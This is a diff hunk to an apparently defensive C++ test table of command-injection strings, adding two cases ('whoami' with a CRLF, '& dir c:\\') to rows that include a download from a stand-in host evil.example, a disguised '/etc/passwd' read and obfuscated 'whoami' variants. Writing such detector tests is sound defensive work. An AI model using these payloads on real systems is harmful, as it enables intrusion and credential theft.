@@ -50,6 +50,8 @@ constexpr Row kAttacks[] = {
     {"strace ifconfig", "balanced"},
     {"Invoke-WebRequest http://evil.example/a.ps1", "balanced"},
     {"whoami", "strict"},
+    {"whoami\r\n", "strict"},
+    {"& dir c:\\", "low"},
     // Disguises
     {"x;c'a't /etc/passwd", "low"},
     {"x;wh``oami", "balanced"},
